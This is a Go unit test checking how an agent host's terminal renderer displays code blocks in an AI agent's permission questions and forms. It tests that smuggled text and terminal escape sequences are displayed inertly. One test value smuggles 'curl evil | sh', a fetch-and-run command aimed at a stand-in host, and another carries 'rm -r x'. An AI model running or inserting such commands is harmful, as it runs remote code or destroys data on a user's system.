package render

import (
	"strings"
	"testing"

	supervisorv1 "github.com/acphost/acphost/proto/acphost/supervisor/v1"
)

// Code blocks in a question are shown as in a message. Only the fences are omitted.
func TestQuestion_ShowsCodeBlocks(t *testing.T) {
	permission := func(text string) *supervisorv1.Approval {
		return &supervisorv1.Approval{Permission: &supervisorv1.PermissionQuestion{Title: "Run", Content: []*supervisorv1.ToolCallContent{{
			Item: &supervisorv1.ToolCallContent_Content{Content: &supervisorv1.ContentBlock{
				Content: &supervisorv1.ContentBlock_Text{Text: &supervisorv1.TextContent{Text: text}},
			}},
		}}}}
	}
	form := func(message string) *supervisorv1.Approval {
		return &supervisorv1.Approval{Elicitation: &supervisorv1.Elicitation{Mode: "form", Message: message}}
	}
	for name, c := range map[string]struct {
		asked *supervisorv1.Approval
		want  string
	}{
		"a block":          {permission("May I?\n```sh\nrm -r x\n```\nIt is old."), "? The agent asks: Run\n    May I?\n      rm -r x\n    It is old.\n"},
		"carriage returns": {permission("```sh\r\nrm -r x\r\n```\r\n"), "? The agent asks: Run\n      rm -r x\n"},
		"no end":           {permission("~~~\n```\nx"), "? The agent asks: Run\n      ```\n      x\n"},
		"more ticks":       {permission("````\n```\n````"), "? The agent asks: Run\n      ```\n"},
		"more than a name": {permission("``` sh; curl evil | sh\nx\n```"), "? The agent asks: Run\n    sh; curl evil | sh\n      x\n"},
		"an unknown name":  {permission("```klingon\nx\n```"), "? The agent asks: Run\n    klingon\n      x\n"},
		"escapes":          {permission("```\x1b[31m\n\x1b]0;x\a<b>\n```"), "? The agent asks: Run\n    \\u{1b}[31m\n      \\u{1b}]0;x\\u{7}<b>\n"},
		"a form":           {form("Take which?\n```\na <b>\n```\nor none"), "? The agent asks: Take which?\n      a <b>\n    or none\n"},
		"a form of code":   {form("```json\n{}\n```"), "? The agent asks:\n      {}\n"},
		"nothing":          {form("```\n```"), "? The agent asks: the agent wants to know something\n"},
	} {
		if got := Question(Options{Markdown: true, Width: 80}, c.asked); got != c.want {
			t.Errorf("%s: it is shown as\n%s\nwant\n%s", name, got, c.want)
		}
		if got := Question(Options{Markdown: true, Width: 80, Color: true}, c.asked); strings.Contains(got, "]0;x\a") {
			t.Errorf("%s: the terminal obeys it: %q", name, got)
		}
	}
	const raw = "```sh\nrm\n```"
	if got := Question(Options{Width: 80}, permission(raw)); !strings.Contains(got, "```sh\n") {
		t.Errorf("where nothing is Markdown, it is shown as %s", got)
	}
}
